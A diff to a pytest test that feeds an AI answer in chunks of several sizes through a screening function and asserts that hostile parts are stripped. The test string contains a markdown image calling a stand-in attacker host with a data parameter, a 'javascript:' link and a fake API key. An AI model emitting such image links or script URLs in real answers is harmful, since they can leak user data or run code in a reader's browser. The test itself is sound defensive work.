@@ -57,7 +57,7 @@ def said(*pieces: str) -> tuple[str, list[str]]:
 
 @pytest.mark.parametrize("size", [1, 3, 7, 1000])
 def test_an_answer_is_screened_however_it_was_cut(size):
-    answer = "Here: ![x](https://evil.example/?d=1) and [y](javascript:alert(1)), key sk-ant-api03-Abc123Def456Ghi789Jkl end."
+    answer = "Here: ![x](https://evil.example/?d=1), [y](javascript:alert(1)), sk-ant-api03-Abc123Def456Ghi789Jkl end."
     text, notices = said(*(answer[at : at + size] for at in range(0, len(answer), size)))
     assert "javascript" not in text
     assert "Ghi789" not in text
